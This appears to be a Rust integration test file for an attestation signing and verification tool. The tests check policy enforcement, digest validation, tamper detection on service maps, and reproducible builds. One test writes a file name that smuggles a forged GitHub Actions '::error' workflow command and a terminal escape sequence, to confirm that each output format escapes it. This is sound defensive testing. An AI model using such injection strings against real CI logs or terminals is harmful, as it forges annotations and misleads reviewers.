fn file_names_with_control_characters_are_escaped_in_every_format() {
    let (project, out) = pristine("escape");
    std::fs::write(out.join("evil\n::error file=x.py::forged\r\u{1b}[2J"), b"x").expect("add");
    let p = project.to_string_lossy().to_string();
    let key = repo().join(TEST_PUB).to_string_lossy().to_string();
    for format in ["human", "github", "json", "sarif"] {
        let o = run(&["verify", &p, "--key", &key, "--allow-test-key", "--error-format", format, "--color", "never"]);
        assert_eq!(o.status.code(), Some(1), "{format}: {}", text(&o.stderr));
        for stream in [text(&o.stdout), text(&o.stderr)] {
            assert!(!stream.lines().any(|l| l.trim_start().starts_with("::error file=x.py")), "{format}: {stream}");
            assert!(!stream.contains('\r') && !stream.contains('\u{1b}'), "{format}: {stream:?}");
        }
        let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
        match format {
            "human" => assert!(all.contains(r"evil\n::error file=x.py::forged\r\u{1b}[2J"), "{all}"),
            "github" => assert!(all.contains(r"evil%0A::error file=x.py::forged%0D\u{1b}[2J"), "{all}"),
            _ => {
                let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
                assert!(v.to_string().contains("evil\\n::error"), "{v}");
            }
        }
    }
}

#[test]
fn the_signer_does_not_set_its_own_bar() {
    // A weakened embedded policy: a bounded verdict at depth 1, which the statement accepts.
    let (project, out) = pristine("weak-policy");
    let (_, mut st) = envelope_of(&out);
    st.predicate.obligations[0].verdict = serde_json::json!({"verdict": "bounded", "depth": 1});
    st.predicate.policy.allow_bounded = true;
    st.predicate.policy.min_bounded_depth = 0;
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8009"]);
    // A verifier policy file cannot be loosened by the statement, and the statement's stricter
    // policy still applies on top of a lax verifier policy.
    let (project, out) = pristine("strict-statement");
    let (_, mut st) = envelope_of(&out);
    st.predicate.policy.min_tested_cases = 1000;
    resign(&out, &st);
    let lax = out.parent().expect("parent").join("lax.toml");
    std::fs::write(&lax, "min_tested_cases = 1\n").expect("policy");
    let req = VerifyRequest {
        path: out.clone(),
        key: Some(repo().join(TEST_PUB)),
        allow_test_key: true,
        policy: Some(lax),
        project: Some(project.clone()),
        ..VerifyRequest::default()
    };
    assert_eq!(error_codes(&req), vec!["LP8009"]);
    // No obligations at all for a spec that has them.
    let (project, out) = pristine("no-obligations");
    let (_, mut st) = envelope_of(&out);
    let dropped = st.predicate.obligations.len();
    assert!(dropped > 10);
    st.predicate.obligations.clear();
    st.predicate.summary.clear();
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8018"]);
    // One obligation left out.
    let (project, out) = pristine("one-obligation");
    let (_, mut st) = envelope_of(&out);
    st.predicate.obligations.pop();
    resign(&out, &st);
    assert_eq!(gate(&out, &project, None), vec!["LP8018"]);
}

#[test]
fn every_digest_a_subject_carries_is_checked() {
    use sha2::Digest;
    let (project, out) = pristine("digests");
    let (_, st) = envelope_of(&out);
    let name = st.subject[0].name.clone();
    let bytes = std::fs::read(out.join(&name)).expect("artifact");
    let right = keys::hex(&sha2::Sha512::digest(&bytes));
    for (alg, value, want) in [
        ("sha512", "0".repeat(128), vec!["LP8005"]),
        ("sha512", right, vec![]),
        ("md5", "0".repeat(32), vec!["LP8019"]),
        ("sha512", "00".into(), vec!["LP8001"]),
    ] {
        let mut forged = st.clone();
        forged.subject[0].digest.insert(alg.into(), value.clone());
        resign(&out, &forged);
        assert_eq!(gate(&out, &project, None), want, "{alg} {value}");
    }
}

#[test]
fn the_service_maps_are_certified_and_a_tampered_map_is_refused() {
    let (project, out) = pristine("maps");
    let mut maps = Vec::new();
    files_under(&out.join("maps"), &out, &mut maps);
    maps.sort();
    let names: Vec<String> = maps.iter().map(|p| p.to_string_lossy().replace('\\', "/")).collect();
    assert!(names.contains(&"maps/shared/standards-contract.yaml".to_string()), "{names:?}");
    assert!(
        names.iter().filter(|n| n.starts_with("maps/backend/") && n.ends_with("-map.yaml")).count() >= 2,
        "{names:?}"
    );
    let (_, st) = envelope_of(&out);
    for name in &names {
        let subject = st.subject.iter().find(|s| &s.name == name);
        let subject = subject.unwrap_or_else(|| panic!("{name} is not certified"));
        assert_eq!(subject.digest.get("sha256"), Some(&sha256_hex(&std::fs::read(out.join(name)).expect("read"))));
        assert!(!st.predicate.traceability.artifacts[name].is_empty(), "{name} names no spec item");
    }
    // One edited line of a map: the digest no longer matches (LP8005).
    let victim = out.join("maps/shared/standards-contract.yaml");
    let original = std::fs::read_to_string(&victim).expect("read");
    std::fs::write(&victim, original.replace("applies_to:", "applies_to: []\nignored:")).expect("tamper");
    assert_eq!(gate(&out, &project, None), vec!["LP8005"]);
    std::fs::write(&victim, &original).expect("restore");
    // A removed map is missing (LP8004).
    let map = out.join(&maps[0]);
    let bytes = std::fs::read(&map).expect("read");
    std::fs::remove_file(&map).expect("remove");
    assert_eq!(gate(&out, &project, None), vec!["LP8004"]);
    std::fs::write(&map, bytes).expect("restore");
    assert!(gate(&out, &project, None).is_empty());
}

#[test]
fn two_builds_of_a_spec_with_bodies_write_the_same_maps() {
    let dir = scratch("maps-twice");
    let spec = dir.join("behaviour_clean.adt");
    std::fs::copy(repo().join("tests/corpus/passes/behaviour_clean.adt"), &spec).expect("copy");
    let mut trees = Vec::new();
    for name in ["a", "b"] {
        let out = dir.join(name);
        let o = run(&[
            "build",
            &spec.to_string_lossy(),
            "--out",
            &out.to_string_lossy(),
            "--key",
            &repo().join(TEST_KEY).to_string_lossy(),
            "--no-cache",
            "--quiet",
            "--color",
            "never",
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
        let mut files = Vec::new();
        files_under(&out.join("maps"), &out, &mut files);
        files.sort();
        let contents: Vec<(PathBuf, Vec<u8>)> =
            files.into_iter().map(|f| (f.clone(), std::fs::read(out.join(&f)).expect("read"))).collect();
        let (_, st) = envelope_of(&out);
        for (f, _) in &contents {
            let name = f.to_string_lossy().replace('\\', "/");
            assert!(st.subject.iter().any(|s| s.name == name), "{name} is not certified");
        }
        trees.push(contents);
    }
    assert_eq!(trees[0].len(), 3, "two services' maps and the standards contract");
    assert_eq!(trees[0], trees[1], "the maps differ between two builds");
    let runs = String::from_utf8(trees[0].iter().find(|(f, _)| f.ends_with("runs-map.yaml")).expect("runs").1.clone())
        .expect("UTF-8");
    assert!(runs.contains("operation: tenants.get") && runs.contains("event: Run.start"), "{runs}");
}
